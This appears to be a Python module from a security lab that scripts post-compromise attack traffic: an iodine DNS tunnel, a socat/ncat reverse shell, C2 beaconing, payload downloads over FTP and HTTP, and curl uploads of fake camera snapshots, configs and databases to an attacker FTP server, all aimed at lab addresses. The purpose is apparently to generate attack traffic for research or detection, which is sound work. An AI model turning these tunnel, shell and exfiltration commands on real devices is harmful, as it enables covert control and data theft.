"""The second round's post-compromise attacks: DNS tunnel, C2, payload download, exfiltration.

Each has one marker address: the dedicated resolver address of the DNS tunnel (iodine
cannot bind a source), or the attacker's server that the compromised device
(``topology.implant``) talks to. The servers are in :mod:`amlhp.lab.attack_services`;
the sessions that need two sides (tunnel, reverse shell, beaconing) are small driver
modules that start the real tools and clean up after themselves.
"""

from __future__ import annotations

from amlhp.lab.attack_services import (
    BEACON_ATTACKER,
    C2_PORT,
    DOWNLOAD_ATTACKER,
    EXFIL_ATTACKER,
    PAYLOADS,
    REVSHELL_ATTACKER,
    REVSHELL_PORT,
    TUNNEL_DOMAIN,
    TUNNEL_PASSWORD,
    TUNNEL_PORT,
)
from amlhp.lab.dnstunnel import tunnel_network
from amlhp.lab.scenario import (
    AttackContext,
    Scenario,
    ToolRun,
    attacker,
    driver_run,
    run_seed,
    time_limit,
    units,
)

#: curl's per-transfer rate cap: spreads a transfer over time and over smaller segments
TRANSFER_RATE = "400k"


def _dns_tunnel(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
    t = ctx.topology
    data = units(s, packets, 2_000, 3_000_000)
    return driver_run(
        "dnstunnel", time_limit(ctx, 120),
        "--resolver", str(t.dns_tunnel_resolver),
        "--server", str(t.tunnel_server), "--server-port", str(TUNNEL_PORT),
        "--domain", TUNNEL_DOMAIN, "--password", TUNNEL_PASSWORD, "--bytes", str(data),
    )  # fmt: skip


def _implant_run(module: str, ctx: AttackContext, seconds: float, *args: str) -> ToolRun:
    """A C2 driver whose device side runs from the compromised device, seeded per run."""
    implant = ("--implant", str(ctx.topology.implant), "--seed", run_seed(ctx))
    return driver_run(module, seconds, *implant, *args)


def _reverse_shell(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
    commands = units(s, packets, 2, 400)
    attacker_host = str(ctx.topology.attacker(REVSHELL_ATTACKER))
    return _implant_run(
        "revshell", ctx, time_limit(ctx, 120),
        "--attacker", attacker_host, "--port", str(REVSHELL_PORT),
        "--commands", str(commands), "--pace", "0.5",
    )  # fmt: skip


def _beacon(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
    beacons = units(s, packets, 2, 5_000)
    server = str(ctx.topology.attacker(BEACON_ATTACKER))
    return _implant_run(
        "beacon", ctx, time_limit(ctx, 300),
        "--server", server, "--port", str(C2_PORT), "--beacons", str(beacons), "--interval", "0.4",
    )  # fmt: skip


def _curl(ctx: AttackContext, seconds: float) -> list[str]:
    return [
        "curl", "-sS", "--interface", str(ctx.topology.implant), "--limit-rate", TRANSFER_RATE,
        "--max-time", f"{seconds:.0f}", "--ftp-pasv",
    ]  # fmt: skip


def _download(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
    t = ctx.topology
    server = t.attacker(DOWNLOAD_ATTACKER)
    fetches = units(s, packets, 1, 200)
    names = sorted(PAYLOADS)
    seconds = time_limit(ctx, 120)
    argv = _curl(ctx, seconds)
    for i in range(fetches):
        name = ctx.rng.choice(names)
        # droppers fetch over FTP and HTTP alike (wget/tftp/curl one-liners)
        url = (
            f"ftp://{server}:{t.ports.ftp}/pub/{name}"
            if (i + ctx.iteration) % 2
            else f"http://{server}:{t.ports.http}/{name}"
        )
        argv += ["-o", "/dev/null", url]
    return ToolRun(argv, timeout_s=seconds + 5)


def _exfiltration(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
    t = ctx.topology
    uploads = units(s, packets, 1, 200)
    folder = ctx.workdir / "exfil"
    folder.mkdir(parents=True, exist_ok=True)
    kinds = ("snapshot.jpg", "config.tar", "wifi.conf", "users.db", "recording.h264")
    files = []
    for i in range(uploads):
        name = f"{ctx.iteration:03d}-{i:03d}-{ctx.rng.choice(kinds)}"
        path = folder / name
        path.write_bytes(ctx.rng.randbytes(ctx.rng.choice((4_000, 60_000, 250_000, 700_000))))
        files.append(path)
    seconds = time_limit(ctx, 120)
    argv = _curl(ctx, seconds)
    url = f"ftp://{t.attacker(EXFIL_ATTACKER)}:{t.ports.ftp}/incoming/"
    for path in files:
        argv += ["-T", str(path), url]
    return ToolRun(argv, timeout_s=seconds + 5)


C2_SCENARIOS: tuple[Scenario, ...] = (
    Scenario(
        "dns_tunnel", "dns_tunnel", "iodine, iodined (through dnsmasq), ncat",
        "IP over DNS: iodine through the lab resolver, data through the tunnel",
        lambda t: t.dns_tunnel_resolver, lambda t: t.dns_tunnel_resolver,
        _dns_tunnel, packets_per_unit=1 / 60, network=tunnel_network,
    ),
    Scenario(
        "c2_reverse_shell", "c2_reverse_shell", "ncat -l, socat EXEC:/bin/sh",
        "a device connects back to the attacker, who types shell commands",
        attacker(REVSHELL_ATTACKER), lambda t: t.implant, _reverse_shell, packets_per_unit=40.0,
    ),
    Scenario(
        "c2_beacon", "c2_beacon", "curl (implant), python http.server (C2)",
        "periodic HTTP beacons with base64 tasks and results",
        attacker(BEACON_ATTACKER), lambda t: t.implant, _beacon, packets_per_unit=20.0,
    ),
    Scenario(
        "malware_download", "malware_download", "curl, vsftpd, python http.server",
        "a device fetches payloads (ELF, dropper script) over FTP and HTTP",
        attacker(DOWNLOAD_ATTACKER), lambda t: t.implant, _download, packets_per_unit=60.0,
    ),
    Scenario(
        "exfiltration", "exfiltration", "curl -T, vsftpd (anonymous upload)",
        "a device uploads snapshots, configs and databases to the attacker's FTP",
        attacker(EXFIL_ATTACKER), lambda t: t.implant, _exfiltration, packets_per_unit=60.0,
    ),
)  # fmt: skip
